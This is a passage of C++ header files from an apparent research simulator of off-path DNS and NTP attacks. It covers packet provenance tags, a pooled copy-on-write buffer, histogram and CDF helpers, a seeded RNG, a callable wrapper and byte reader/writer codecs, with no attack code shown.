// refcounted slicing, copy-on-write, fragmentation and reassembly for
// free once the buffer paths propagate it.
//
// Determinism contract: a stamp is a pure function of simulation state —
// module tag, sim-time nanoseconds, and a sequence number drawn from a
// per-trial RNG stream derived from the trial seed.  Never memory
// addresses, never wall-clock time.  Identical (scenario, seed) trials
// produce identical stamps at any thread count.
#pragma once

#include "common/types.h"

namespace dnstime {

/// The simulated module a packet was emitted by.  Tags are set per
/// NetStack (net::StackConfig::origin_module); kUnknown is the default for
/// stacks built outside scenario::World (unit tests, benches).
enum class OriginModule : u8 {
  kUnknown = 0,
  kResolver,     ///< the victim's recursive resolver
  kNameserver,   ///< the legitimate pool nameserver
  kPoolNtp,      ///< a legitimate pool NTP server
  kVictim,       ///< the victim NTP client host
  kAttacker,     ///< the off-path attacker's raw-injection stack
  kAttackerNs,   ///< the attacker-controlled nameserver
  kAttackerNtp,  ///< an attacker-controlled NTP server
};

[[nodiscard]] constexpr const char* to_string(OriginModule m) {
  switch (m) {
    case OriginModule::kUnknown: return "unknown";
    case OriginModule::kResolver: return "resolver";
    case OriginModule::kNameserver: return "nameserver";
    case OriginModule::kPoolNtp: return "pool-ntp";
    case OriginModule::kVictim: return "victim";
    case OriginModule::kAttacker: return "attacker";
    case OriginModule::kAttackerNs: return "attacker-ns";
    case OriginModule::kAttackerNtp: return "attacker-ntp";
  }
  return "?";
}

/// Provenance stamp carried by every PacketBuf / BufView.
struct Origin {
  /// The packet was injected with a forged source (NetStack::send_raw).
  static constexpr u8 kSpoofed = u8{1} << 0;
  /// The payload was assembled from IP fragments (ReassemblyCache); the
  /// rest of the stamp is the dominant fragment's (spoofed wins).
  static constexpr u8 kReassembled = u8{1} << 1;

  i64 ts_ns = 0;  ///< sim-time at stamping (EventLoop nanoseconds)
  u32 seq = 0;    ///< id from the trial's provenance RNG stream (0 = unstamped)
  OriginModule module = OriginModule::kUnknown;
  u8 flags = 0;

  [[nodiscard]] constexpr bool spoofed() const {
    return (flags & kSpoofed) != 0;
  }
  [[nodiscard]] constexpr bool reassembled() const {
    return (flags & kReassembled) != 0;
  }

  friend constexpr bool operator==(const Origin&, const Origin&) = default;
};

}  // namespace dnstime
