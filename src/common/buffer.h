// Packet-path memory subsystem: pooled, reference-counted byte buffers.
//
// Every simulated packet used to be a `std::vector<u8>` that was allocated,
// copied and freed at each layer boundary (serialize -> fragment -> deliver
// -> reassemble -> parse). The off-path attacks this simulator reproduces
// (fragment sprays, NTP mode-3 floods, rate-limit probes) push millions of
// packets per campaign through exactly that path, so buffer ownership is a
// first-class subsystem here:
//
//  * BufferPool  — a per-thread free-list allocator with power-of-two size
//    classes. Trials are single-threaded by design (the campaign runner
//    gives every worker its own event loop), so the pool takes no locks.
//  * PacketBuf   — a reference-counted window onto a pooled block. Copying
//    a PacketBuf bumps a (non-atomic) refcount; fragment slicing and header
//    strip/prepend are offset arithmetic on the shared block. Mutating
//    accessors copy-on-write, so aliased slices can never observe writes
//    through another handle.
//  * BufView     — a non-owning read-only view, the type UDP payload
//    handlers receive. A BufView is only valid for the duration of the call
//    that handed it out (see src/net/README.md for the aliasing rules).
//
// Thread contract: a PacketBuf must be dropped on the thread that acquired
// its block — each pool (free lists AND stats) is touched only by its
// owning thread, so a cross-thread release would park the block on the
// wrong pool and skew both pools' outstanding counters. Nothing in the
// simulator sends packets across threads (trials own their event loop and
// results carry no buffers).
#pragma once

#include <array>
#include <cstddef>
#include <cstring>
#include <initializer_list>
#include <new>
#include <span>
#include <stdexcept>
#include <vector>

#include "common/origin.h"
#include "common/types.h"

namespace dnstime {

using Bytes = std::vector<u8>;

/// Headroom reserved in front of freshly built payloads so lower layers can
/// prepend their headers in place (8 UDP + 20 IPv4, rounded up).
inline constexpr std::size_t kPacketHeadroom = 32;

/// Per-thread free-list allocator with power-of-two size classes.
class BufferPool {
 public:
  /// Size classes 2^6 .. 2^17 (64 B .. 128 KiB). Larger requests are served
  /// directly from the heap and never cached.
  static constexpr std::size_t kMinClassShift = 6;
  static constexpr std::size_t kMaxClassShift = 17;
  static constexpr std::size_t kNumClasses = kMaxClassShift - kMinClassShift + 1;
  static constexpr u16 kOversizeClass = 0xFFFF;

  struct Stats {
    /// Per-size-class slice of the counters below (class i holds blocks of
    /// 2^(kMinClassShift + i) bytes). Oversize requests bypass the classes
    /// and appear only in the totals.
    struct PerClass {
      u64 pool_hits = 0;
      u64 fresh_allocs = 0;
      u64 outstanding = 0;
      u64 cached_blocks = 0;
      u64 cached_bytes = 0;
    };

    u64 pool_hits = 0;       ///< acquires served from a free list
    u64 fresh_allocs = 0;    ///< acquires that went to operator new
    u64 oversize_allocs = 0; ///< requests beyond the largest class (unpooled)
    u64 outstanding = 0;     ///< live blocks not yet released
    u64 cached_blocks = 0;   ///< blocks parked on free lists
    u64 cached_bytes = 0;    ///< capacity parked on free lists
    std::array<PerClass, kNumClasses> classes{};

    /// Element-wise accumulate (used by aggregate_stats()).
    void merge(const Stats& o);
  };
  /// Cap on bytes parked across all free lists; releases beyond it free.
  static constexpr std::size_t kMaxCachedBytes = std::size_t{4} << 20;

  /// Block header preceding every allocation. `next_free` is only valid
  /// while the block is parked on a free list.
  struct alignas(16) Block {
    Block* next_free;
    u32 refcount;
    u32 capacity;
    u16 class_idx;
    [[nodiscard]] u8* data() {
      return reinterpret_cast<u8*>(this) + sizeof(Block);
    }
  };

  BufferPool();
  ~BufferPool();
  BufferPool(const BufferPool&) = delete;
  BufferPool& operator=(const BufferPool&) = delete;

  /// The calling thread's pool. Campaign workers each get their own
  /// instance, so no acquire/release ever synchronises.
  static BufferPool& local();

  /// Stats merged across every pool in the process: all live pools plus
  /// the folded counters of pools whose threads have exited. Takes the
  /// process-wide pool-registry lock; exact when other threads are not
  /// mid-acquire (e.g. after campaign workers joined). This — not
  /// local().stats() — is what campaign-level reporting must use: the
  /// calling thread's pool sees none of the worker traffic.
  [[nodiscard]] static Stats aggregate_stats();

  /// Allocate a block with at least `capacity` data bytes.
  [[nodiscard]] Block* acquire(std::size_t capacity);

  /// Return a block whose refcount reached zero.
  void release(Block* b);

  /// Drop all cached free blocks (the pool's memory floor returns to zero).
  void trim();

  [[nodiscard]] const Stats& stats() const { return stats_; }
  /// Live blocks not yet released — the pool-leak instrumentation: at trial
  /// teardown every PacketBuf must have returned to its pool, so this must
  /// match its pre-trial value.
  [[nodiscard]] u64 outstanding() const { return stats_.outstanding; }

 private:
  static std::size_t class_for(std::size_t capacity);

  Block* free_[kNumClasses] = {};
  Stats stats_;
};

/// Reference-counted window onto a pooled block. Copies alias (refcount++),
/// slices are offset arithmetic, mutation copies-on-write.
class PacketBuf {
 public:
  PacketBuf() = default;

  /// Pooled copy of existing bytes. Implicit on purpose: it is the compat
  /// bridge that lets legacy `Bytes`-producing code feed the packet path
  /// (at the cost of one copy — the hot paths build pooled buffers
  /// directly via ByteWriter::take_buf()).
  PacketBuf(const Bytes& bytes)
      : PacketBuf(copy_of(std::span<const u8>(bytes))) {}
  PacketBuf(std::initializer_list<u8> init)
      : PacketBuf(copy_of(std::span<const u8>(init.begin(), init.size()))) {}

  [[nodiscard]] static PacketBuf copy_of(std::span<const u8> data,
                                         std::size_t headroom = 0);
  /// Uninitialised buffer of `n` bytes (callers must write every byte —
  /// reassembly proves contiguous coverage before using this).
  [[nodiscard]] static PacketBuf uninitialized(std::size_t n,
                                               std::size_t headroom = 0);

  ~PacketBuf() { reset(); }

  PacketBuf(const PacketBuf& o)
      : block_(o.block_), data_(o.data_), len_(o.len_), origin_(o.origin_) {
    if (block_) block_->refcount++;
  }
  PacketBuf& operator=(const PacketBuf& o) {
    if (this != &o) {
      if (o.block_) o.block_->refcount++;
      reset();
      block_ = o.block_;
      data_ = o.data_;
      len_ = o.len_;
      origin_ = o.origin_;
    }
    return *this;
  }
  PacketBuf(PacketBuf&& o) noexcept
      : block_(o.block_), data_(o.data_), len_(o.len_), origin_(o.origin_) {
    o.block_ = nullptr;
    o.data_ = nullptr;
    o.len_ = 0;
    o.origin_ = Origin{};
  }
  PacketBuf& operator=(PacketBuf&& o) noexcept {
    if (this != &o) {
      reset();
      block_ = o.block_;
      data_ = o.data_;
      len_ = o.len_;
      origin_ = o.origin_;
      o.block_ = nullptr;
      o.data_ = nullptr;
      o.len_ = 0;
      o.origin_ = Origin{};
    }
    return *this;
  }

  [[nodiscard]] std::size_t size() const { return len_; }
  [[nodiscard]] bool empty() const { return len_ == 0; }
  [[nodiscard]] const u8* data() const { return data_; }
  [[nodiscard]] const u8* begin() const { return data_; }
  [[nodiscard]] const u8* end() const { return data_ + len_; }
  [[nodiscard]] const u8& operator[](std::size_t i) const { return data_[i]; }

  /// Mutating accessors copy-on-write: if the block is shared with another
  /// PacketBuf (an aliased fragment slice, a cached reassembly part), the
  /// window is first copied into a fresh block.
  [[nodiscard]] u8* data() {
    ensure_unique();
    return data_;
  }
  [[nodiscard]] u8* begin() {
    ensure_unique();
    return data_;
  }
  [[nodiscard]] u8* end() {
    ensure_unique();
    return data_ + len_;
  }
  [[nodiscard]] u8& operator[](std::size_t i) {
    ensure_unique();
    return data_[i];
  }

  [[nodiscard]] std::span<const u8> span() const { return {data_, len_}; }
  operator std::span<const u8>() const { return span(); }
  [[nodiscard]] Bytes to_bytes() const { return Bytes(begin(), end()); }

  /// Aliasing sub-window [offset, offset+len) — zero copy, refcount++.
  [[nodiscard]] PacketBuf slice(std::size_t offset, std::size_t len) const;

  /// Strip `n` leading bytes (header strip) — offset arithmetic.
  void remove_prefix(std::size_t n) {
    if (n > len_) throw std::out_of_range("PacketBuf::remove_prefix");
    data_ += n;
    len_ -= n;
  }

  /// Grow the window `n` bytes to the left and return a pointer to the new
  /// region (header prepend). In place when this handle is unique and the
  /// block has headroom; otherwise the window is copied into a fresh block.
  u8* prepend(std::size_t n);

  /// Vector-compatible resize: shrinking narrows the window; growth
  /// zero-fills the new bytes (copy-on-write / reallocating as needed).
  void resize(std::size_t n);
  /// Vector-compatible fill-assign.
  void assign(std::size_t n, u8 value);

  /// Writer support: set the window length to `n` bytes from the window
  /// start, which may extend into tailroom (the caller vouches the bytes
  /// were written). Requires a unique handle.
  void set_size(std::size_t n) {
    if (n > len_ && (!unique() || n - len_ > tailroom())) {
      throw std::out_of_range("PacketBuf::set_size");
    }
    len_ = n;
  }

  /// Provenance stamp (common/origin.h). Carried alongside the window
  /// through copies, slices, copy-on-write and the writer's regrow path,
  /// so a reassembled or re-encoded payload still names its emitter.
  [[nodiscard]] const Origin& origin() const { return origin_; }
  void set_origin(const Origin& o) { origin_ = o; }

  [[nodiscard]] bool unique() const {
    return block_ == nullptr || block_->refcount == 1;
  }
  [[nodiscard]] std::size_t headroom() const {
    return block_ ? static_cast<std::size_t>(data_ - block_->data()) : 0;
  }
  [[nodiscard]] std::size_t tailroom() const {
    return block_ ? block_->capacity - headroom() - len_ : 0;
  }

  friend bool operator==(const PacketBuf& a, const PacketBuf& b) {
    return a.len_ == b.len_ &&
           (a.len_ == 0 || std::memcmp(a.data_, b.data_, a.len_) == 0);
  }
  friend bool operator==(const PacketBuf& a, const Bytes& b) {
    return a.len_ == b.size() &&
           (a.len_ == 0 || std::memcmp(a.data_, b.data(), a.len_) == 0);
  }
  friend bool operator==(const Bytes& a, const PacketBuf& b) { return b == a; }

 private:
  friend class BufferPool;
  PacketBuf(BufferPool::Block* block, u8* data, std::size_t len)
      : block_(block), data_(data), len_(len) {}

  void reset() {
    if (block_ && --block_->refcount == 0) BufferPool::local().release(block_);
    block_ = nullptr;
    data_ = nullptr;
    len_ = 0;
    origin_ = Origin{};
  }
  void ensure_unique();

  BufferPool::Block* block_ = nullptr;
  u8* data_ = nullptr;
  std::size_t len_ = 0;
  Origin origin_{};
};

/// Non-owning read-only view over packet bytes — what UDP payload handlers
/// receive. Valid only for the duration of the call that provided it;
/// handlers that keep bytes must `to_bytes()` (see src/net/README.md).
class BufView {
 public:
  constexpr BufView() = default;
  constexpr BufView(const u8* data, std::size_t size)
      : data_(data), size_(size) {}
  constexpr BufView(std::span<const u8> s) : data_(s.data()), size_(s.size()) {}
  BufView(const Bytes& b) : data_(b.data()), size_(b.size()) {}
  BufView(const PacketBuf& b)
      : data_(b.data()), size_(b.size()), origin_(b.origin()) {}

  [[nodiscard]] constexpr const u8* data() const { return data_; }
  [[nodiscard]] constexpr std::size_t size() const { return size_; }
  [[nodiscard]] constexpr bool empty() const { return size_ == 0; }
  [[nodiscard]] constexpr const u8& operator[](std::size_t i) const {
    return data_[i];
  }
  [[nodiscard]] constexpr const u8* begin() const { return data_; }
  [[nodiscard]] constexpr const u8* end() const { return data_ + size_; }

  [[nodiscard]] constexpr std::span<const u8> span() const {
    return {data_, size_};
  }
  constexpr operator std::span<const u8>() const { return span(); }
  [[nodiscard]] Bytes to_bytes() const { return Bytes(begin(), end()); }

  /// Provenance stamp of the buffer this view was taken from (default
  /// for views over plain byte ranges).
  [[nodiscard]] constexpr const Origin& origin() const { return origin_; }

  [[nodiscard]] BufView subview(std::size_t offset, std::size_t n) const {
    if (offset > size_ || n > size_ - offset) {
      throw std::out_of_range("BufView::subview");
    }
    BufView v{data_ + offset, n};
    v.origin_ = origin_;
    return v;
  }

  friend bool operator==(BufView a, BufView b) {
    return a.size_ == b.size_ &&
           (a.size_ == 0 || std::memcmp(a.data_, b.data_, a.size_) == 0);
  }

 private:
  const u8* data_ = nullptr;
  std::size_t size_ = 0;
  Origin origin_{};
};

}  // namespace dnstime
