// Histogram / empirical-CDF helpers used by the measurement benches
// (Fig. 5 fragment-size CDF, Fig. 6 TTL histogram, Fig. 7 latency deltas).
#pragma once

#include <algorithm>
#include <cmath>
#include <cstddef>
#include <string>
#include <vector>

namespace dnstime {

/// Fixed-bin histogram over doubles; out-of-range samples clamp to the
/// edge bins, mirroring the paper's Fig. 7 ("values below -50ms and above
/// 200ms are summed up on the sides").
class Histogram {
 public:
  Histogram(double lo, double hi, std::size_t bins)
      : lo_(lo), hi_(hi), counts_(bins, 0) {}

  void add(double v) {
    double clamped = std::clamp(v, lo_, std::nextafter(hi_, lo_));
    auto bin = static_cast<std::size_t>((clamped - lo_) / (hi_ - lo_) *
                                        static_cast<double>(counts_.size()));
    counts_[std::min(bin, counts_.size() - 1)]++;
    total_++;
  }

  [[nodiscard]] std::size_t bins() const { return counts_.size(); }
  [[nodiscard]] std::size_t count(std::size_t bin) const { return counts_[bin]; }
  [[nodiscard]] std::size_t total() const { return total_; }
  [[nodiscard]] double bin_lo(std::size_t bin) const {
    return lo_ + (hi_ - lo_) * static_cast<double>(bin) /
                     static_cast<double>(counts_.size());
  }
  [[nodiscard]] double bin_hi(std::size_t bin) const { return bin_lo(bin + 1); }

  /// Render an ASCII bar chart, one row per bin; used by the figure benches.
  [[nodiscard]] std::string render(std::size_t width = 50) const {
    std::size_t max_count = 1;
    for (auto c : counts_) max_count = std::max(max_count, c);
    std::string out;
    for (std::size_t i = 0; i < counts_.size(); ++i) {
      char label[64];
      std::snprintf(label, sizeof label, "%9.1f..%-9.1f %8zu |", bin_lo(i),
                    bin_hi(i), counts_[i]);
      out += label;
      out.append(counts_[i] * width / max_count, '#');
      out += "\n";
    }
    return out;
  }

 private:
  double lo_, hi_;
  std::vector<std::size_t> counts_;
  std::size_t total_ = 0;
};

/// Empirical CDF over arbitrary samples; `fraction_leq(x)` answers the
/// Fig. 5 question "what fraction of domains fragments to <= x bytes".
class EmpiricalCdf {
 public:
  void add(double v) {
    samples_.push_back(v);
    sorted_ = false;
  }

  [[nodiscard]] double fraction_leq(double x) const {
    sort_if_needed();
    if (samples_.empty()) return 0.0;
    auto it = std::upper_bound(samples_.begin(), samples_.end(), x);
    return static_cast<double>(it - samples_.begin()) /
           static_cast<double>(samples_.size());
  }

  /// Nearest-rank (lower) quantile: the sorted sample at index
  /// floor(q * (n - 1)). No interpolation — the result is always an
  /// observed sample; q = 0 is the minimum, q = 1 the maximum. `q` is
  /// clamped to [0, 1] (out-of-range and NaN inputs used to index out of
  /// bounds; NaN now clamps to 0).
  [[nodiscard]] double quantile(double q) const {
    sort_if_needed();
    if (samples_.empty()) return 0.0;
    if (!(q > 0.0)) q = 0.0;  // also catches NaN
    if (q > 1.0) q = 1.0;
    auto idx = static_cast<std::size_t>(
        q * static_cast<double>(samples_.size() - 1));
    return samples_[idx];
  }

  [[nodiscard]] std::size_t size() const { return samples_.size(); }

 private:
  void sort_if_needed() const {
    if (!sorted_) {
      std::sort(samples_.begin(), samples_.end());
      sorted_ = true;
    }
  }
  mutable std::vector<double> samples_;
  mutable bool sorted_ = true;
};

}  // namespace dnstime
