// Deterministic, seedable random source. Every stochastic component in the
// simulation (IPID counters, port/TXID randomisation, population sampling,
// latency jitter) draws from an Rng owned by its scenario, so whole
// experiments replay bit-identically from a seed.
#pragma once

#include <algorithm>
#include <cstdint>
#include <random>
#include <vector>

#include "common/types.h"

namespace dnstime {

/// SplitMix64 finalizer. Mixes up to three words (e.g. campaign seed,
/// scenario id, trial index) into one well-distributed seed, so every
/// trial owns a statistically independent stream without any engine being
/// shared across threads.
[[nodiscard]] constexpr u64 mix_seed(u64 a, u64 b = 0, u64 c = 0) {
  u64 z = a;
  auto mix = [](u64 x) constexpr {
    x += 0x9E3779B97F4A7C15ull;
    x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9ull;
    x = (x ^ (x >> 27)) * 0x94D049BB133111EBull;
    return x ^ (x >> 31);
  };
  z = mix(z);
  z = mix(z ^ b);
  z = mix(z ^ c);
  return z;
}

class Rng {
 public:
  explicit Rng(u64 seed = 0x5eed) : engine_(seed) {}

  /// Uniform integer in [lo, hi] inclusive.
  [[nodiscard]] u64 uniform(u64 lo, u64 hi) {
    return std::uniform_int_distribution<u64>(lo, hi)(engine_);
  }
  [[nodiscard]] u32 next_u32() {
    return static_cast<u32>(uniform(0, 0xFFFFFFFFull));
  }
  [[nodiscard]] u16 next_u16() { return static_cast<u16>(uniform(0, 0xFFFF)); }

  /// Uniform double in [0, 1).
  [[nodiscard]] double uniform01() {
    return std::uniform_real_distribution<double>(0.0, 1.0)(engine_);
  }
  /// Bernoulli trial with success probability p.
  [[nodiscard]] bool chance(double p) { return uniform01() < p; }

  /// Normal deviate (used for latency jitter in the timing side channel).
  [[nodiscard]] double normal(double mean, double stddev) {
    return std::normal_distribution<double>(mean, stddev)(engine_);
  }
  /// Exponential deviate with the given mean.
  [[nodiscard]] double exponential(double mean) {
    return std::exponential_distribution<double>(1.0 / mean)(engine_);
  }

  /// Sample k distinct indices from [0, n) (k <= n), order randomised.
  [[nodiscard]] std::vector<std::size_t> sample_indices(std::size_t n,
                                                        std::size_t k) {
    std::vector<std::size_t> idx(n);
    for (std::size_t i = 0; i < n; ++i) idx[i] = i;
    for (std::size_t i = 0; i < k && i < n; ++i) {
      std::size_t j = i + static_cast<std::size_t>(uniform(0, n - i - 1));
      std::swap(idx[i], idx[j]);
    }
    idx.resize(k < n ? k : n);
    return idx;
  }

  template <typename T>
  void shuffle(std::vector<T>& v) {
    std::shuffle(v.begin(), v.end(), engine_);
  }

  /// Derive an independent child stream (for per-component determinism).
  [[nodiscard]] Rng fork() { return Rng(uniform(0, ~u64{0})); }

  std::mt19937_64& engine() { return engine_; }

 private:
  std::mt19937_64 engine_;
};

}  // namespace dnstime
