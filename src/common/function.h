// Small-buffer-optimized move-only callable wrapper.
//
// The event loop fires tens of millions of callbacks per campaign, and the
// typical capture is tiny — an object pointer plus a packet. std::function
// heap-allocates such captures (libstdc++'s inline buffer is two words) and
// requires copyability; SmallFn keeps captures up to `InlineBytes` inside
// the object, accepts move-only callables, and moves — never copies — the
// target when the event queue reshuffles. Larger captures fall back to a
// single heap allocation, so correctness never depends on the buffer size.
#pragma once

#include <cstddef>
#include <cstdlib>
#include <functional>  // std::bad_function_call
#include <memory>
#include <new>
#include <type_traits>
#include <utility>

namespace dnstime {

template <class Sig, std::size_t InlineBytes = 64>
class SmallFn;  // primary template left undefined; use SmallFn<R(Args...)>

template <class R, class... Args, std::size_t InlineBytes>
class SmallFn<R(Args...), InlineBytes> {
  static_assert(InlineBytes >= sizeof(void*),
                "buffer must hold at least the heap-fallback pointer");

 public:
  SmallFn() = default;
  SmallFn(std::nullptr_t) {}  // NOLINT(google-explicit-constructor)

  template <class F>
    requires(!std::is_same_v<std::remove_cvref_t<F>, SmallFn> &&
             std::is_invocable_r_v<R, std::remove_cvref_t<F>&, Args...>)
  SmallFn(F&& f) {  // NOLINT(google-explicit-constructor)
    using Fn = std::remove_cvref_t<F>;
    if constexpr (fits_inline<Fn>()) {
      ::new (static_cast<void*>(buf_)) Fn(std::forward<F>(f));
      vt_ = &vtable_inline<Fn>;
    } else {
      ::new (static_cast<void*>(buf_)) Fn*(new Fn(std::forward<F>(f)));
      vt_ = &vtable_heap<Fn>;
    }
  }

  SmallFn(SmallFn&& other) noexcept { move_from(other); }
  SmallFn& operator=(SmallFn&& other) noexcept {
    if (this != &other) {
      reset();
      move_from(other);
    }
    return *this;
  }

  SmallFn(const SmallFn&) = delete;
  SmallFn& operator=(const SmallFn&) = delete;

  ~SmallFn() { reset(); }

  void reset() {
    if (vt_) {
      vt_->destroy(buf_);
      vt_ = nullptr;
    }
  }

  [[nodiscard]] explicit operator bool() const { return vt_ != nullptr; }

  R operator()(Args... args) {
    if (vt_ == nullptr) throw std::bad_function_call{};
    return vt_->invoke(buf_, std::forward<Args>(args)...);
  }

 private:
  struct VTable {
    R (*invoke)(void*, Args&&...);
    /// Move-construct the target from `src` into `dst`, then destroy the
    /// one in `src`. For heap-stored targets this just relocates the
    /// pointer — no allocation either way.
    void (*relocate)(void* src, void* dst);
    void (*destroy)(void*);
  };

  template <class Fn>
  static constexpr bool fits_inline() {
    return sizeof(Fn) <= InlineBytes &&
           alignof(Fn) <= alignof(std::max_align_t) &&
           std::is_nothrow_move_constructible_v<Fn>;
  }

  template <class Fn>
  static constexpr VTable vtable_inline = {
      [](void* s, Args&&... args) -> R {
        return (*std::launder(reinterpret_cast<Fn*>(s)))(
            std::forward<Args>(args)...);
      },
      [](void* src, void* dst) {
        Fn* f = std::launder(reinterpret_cast<Fn*>(src));
        ::new (dst) Fn(std::move(*f));
        f->~Fn();
      },
      [](void* s) { std::launder(reinterpret_cast<Fn*>(s))->~Fn(); },
  };

  template <class Fn>
  static constexpr VTable vtable_heap = {
      [](void* s, Args&&... args) -> R {
        return (**std::launder(reinterpret_cast<Fn**>(s)))(
            std::forward<Args>(args)...);
      },
      [](void* src, void* dst) {
        Fn** p = std::launder(reinterpret_cast<Fn**>(src));
        ::new (dst) Fn*(*p);
      },
      [](void* s) { delete *std::launder(reinterpret_cast<Fn**>(s)); },
  };

  void move_from(SmallFn& other) noexcept {
    if (other.vt_) {
      other.vt_->relocate(other.buf_, buf_);
      vt_ = other.vt_;
      other.vt_ = nullptr;
    }
  }

  alignas(std::max_align_t) std::byte buf_[InlineBytes];
  const VTable* vt_ = nullptr;
};

}  // namespace dnstime
