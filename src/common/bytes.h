// Byte-buffer reader/writer used by all wire-format codecs (IPv4, UDP,
// ICMP, DNS, NTP). All multi-byte integers are network (big-endian) order.
#pragma once

#include <cstring>
#include <optional>
#include <span>
#include <stdexcept>
#include <string>
#include <vector>

#include "common/types.h"

namespace dnstime {

using Bytes = std::vector<u8>;

/// Thrown by codecs on malformed input. Decoders in this library never
/// crash on attacker-controlled bytes; they throw this and the caller
/// (typically a network stack) drops the packet.
class DecodeError : public std::runtime_error {
 public:
  explicit DecodeError(const std::string& what) : std::runtime_error(what) {}
};

/// Sequential big-endian writer appending to an owned buffer.
class ByteWriter {
 public:
  void write_u8(u8 v) { buf_.push_back(v); }
  void write_u16(u16 v) {
    buf_.push_back(static_cast<u8>(v >> 8));
    buf_.push_back(static_cast<u8>(v));
  }
  void write_u32(u32 v) {
    write_u16(static_cast<u16>(v >> 16));
    write_u16(static_cast<u16>(v));
  }
  void write_u64(u64 v) {
    write_u32(static_cast<u32>(v >> 32));
    write_u32(static_cast<u32>(v));
  }
  void write_bytes(std::span<const u8> data) {
    buf_.insert(buf_.end(), data.begin(), data.end());
  }
  void write_string(const std::string& s) {
    buf_.insert(buf_.end(), s.begin(), s.end());
  }

  /// Overwrite a previously written 16-bit field (e.g. a length or checksum
  /// computed after the payload is known).
  void patch_u16(std::size_t offset, u16 v) {
    if (offset + 2 > buf_.size()) throw DecodeError("patch_u16 out of range");
    buf_[offset] = static_cast<u8>(v >> 8);
    buf_[offset + 1] = static_cast<u8>(v);
  }

  [[nodiscard]] std::size_t size() const { return buf_.size(); }
  [[nodiscard]] Bytes take() && { return std::move(buf_); }
  [[nodiscard]] const Bytes& data() const { return buf_; }

 private:
  Bytes buf_;
};

/// Sequential big-endian reader over a borrowed buffer.
class ByteReader {
 public:
  explicit ByteReader(std::span<const u8> data) : data_(data) {}

  [[nodiscard]] u8 read_u8() {
    require(1);
    return data_[pos_++];
  }
  [[nodiscard]] u16 read_u16() {
    require(2);
    u16 v = (u16{data_[pos_]} << 8) | u16{data_[pos_ + 1]};
    pos_ += 2;
    return v;
  }
  [[nodiscard]] u32 read_u32() {
    u32 hi = read_u16();
    return (hi << 16) | read_u16();
  }
  [[nodiscard]] u64 read_u64() {
    u64 hi = read_u32();
    return (hi << 32) | read_u32();
  }
  [[nodiscard]] Bytes read_bytes(std::size_t n) {
    require(n);
    Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(pos_),
              data_.begin() + static_cast<std::ptrdiff_t>(pos_ + n));
    pos_ += n;
    return out;
  }
  [[nodiscard]] Bytes read_remaining() { return read_bytes(remaining()); }

  void skip(std::size_t n) {
    require(n);
    pos_ += n;
  }
  void seek(std::size_t pos) {
    if (pos > data_.size()) throw DecodeError("seek out of range");
    pos_ = pos;
  }

  [[nodiscard]] std::size_t pos() const { return pos_; }
  [[nodiscard]] std::size_t remaining() const { return data_.size() - pos_; }
  [[nodiscard]] bool empty() const { return remaining() == 0; }
  [[nodiscard]] std::span<const u8> raw() const { return data_; }

 private:
  void require(std::size_t n) const {
    if (pos_ + n > data_.size()) throw DecodeError("truncated input");
  }
  std::span<const u8> data_;
  std::size_t pos_ = 0;
};

}  // namespace dnstime
