// Byte-buffer reader/writer used by all wire-format codecs (IPv4, UDP,
// ICMP, DNS, NTP). All multi-byte integers are network (big-endian) order.
//
// ByteWriter appends into a pooled PacketBuf (common/buffer.h) and reserves
// packet headroom by default, so a codec's output can have lower-layer
// headers prepended in place — `take_buf()` is the zero-copy path the
// netstack rides; `take()` keeps the legacy owned-vector contract for wire
// crafting and persistence code.
#pragma once

#include <cstring>
#include <optional>
#include <span>
#include <stdexcept>
#include <string>
#include <vector>

#include "common/buffer.h"
#include "common/types.h"

namespace dnstime {

/// Thrown by codecs on malformed input. Decoders in this library never
/// crash on attacker-controlled bytes; they throw this and the caller
/// (typically a network stack) drops the packet.
class DecodeError : public std::runtime_error {
 public:
  explicit DecodeError(const std::string& what) : std::runtime_error(what) {}
};

/// Sequential big-endian writer appending to a pooled buffer.
class ByteWriter {
 public:
  explicit ByteWriter(std::size_t headroom = kPacketHeadroom)
      : headroom_(headroom) {}
  ByteWriter(const ByteWriter&) = delete;
  ByteWriter& operator=(const ByteWriter&) = delete;

  void write_u8(u8 v) {
    if (cur_ == cap_end_) grow(1);
    *cur_++ = v;
  }
  void write_u16(u16 v) {
    u8* p = reserve(2);
    p[0] = static_cast<u8>(v >> 8);
    p[1] = static_cast<u8>(v);
  }
  void write_u32(u32 v) {
    u8* p = reserve(4);
    p[0] = static_cast<u8>(v >> 24);
    p[1] = static_cast<u8>(v >> 16);
    p[2] = static_cast<u8>(v >> 8);
    p[3] = static_cast<u8>(v);
  }
  void write_u64(u64 v) {
    write_u32(static_cast<u32>(v >> 32));
    write_u32(static_cast<u32>(v));
  }
  void write_bytes(std::span<const u8> data) {
    if (data.empty()) return;
    u8* p = reserve(data.size());
    std::memcpy(p, data.data(), data.size());
  }
  void write_string(const std::string& s) {
    if (s.empty()) return;
    u8* p = reserve(s.size());
    std::memcpy(p, s.data(), s.size());
  }

  /// Overwrite a previously written 16-bit field (e.g. a length or checksum
  /// computed after the payload is known). `offset` is relative to the
  /// first written byte.
  void patch_u16(std::size_t offset, u16 v) {
    if (offset + 2 > size()) throw DecodeError("patch_u16 out of range");
    buf_.data()[offset] = static_cast<u8>(v >> 8);
    buf_.data()[offset + 1] = static_cast<u8>(v);
  }

  [[nodiscard]] std::size_t size() const {
    return static_cast<std::size_t>(cur_ - buf_.data());
  }
  /// The bytes written so far.
  [[nodiscard]] std::span<const u8> data() const {
    return {static_cast<const PacketBuf&>(buf_).data(), size()};
  }
  /// Zero-copy: the pooled buffer, window = written bytes, headroom intact.
  [[nodiscard]] PacketBuf take_buf() && {
    buf_.set_size(size());
    cur_ = cap_end_ = nullptr;
    return std::move(buf_);
  }
  /// Legacy owned-vector contract (copies once).
  [[nodiscard]] Bytes take() && {
    Bytes out(data().begin(), data().end());
    buf_ = PacketBuf{};
    cur_ = cap_end_ = nullptr;
    return out;
  }

 private:
  [[nodiscard]] u8* reserve(std::size_t n) {
    if (static_cast<std::size_t>(cap_end_ - cur_) < n) grow(n);
    u8* p = cur_;
    cur_ += n;
    return p;
  }
  void grow(std::size_t need) {
    std::size_t used = size();
    std::size_t cap = used ? used * 2 : 160;
    if (cap < used + need) cap = used + need;
    PacketBuf bigger = PacketBuf::uninitialized(cap, headroom_);
    bigger.set_origin(buf_.origin());  // regrowing must keep provenance
    if (used != 0) std::memcpy(bigger.data(), buf_.data(), used);
    buf_ = std::move(bigger);
    // The pool rounds capacity up to its size class; write into all of it.
    buf_.set_size(buf_.size() + buf_.tailroom());
    cur_ = buf_.data() + used;
    cap_end_ = buf_.data() + buf_.size();
  }

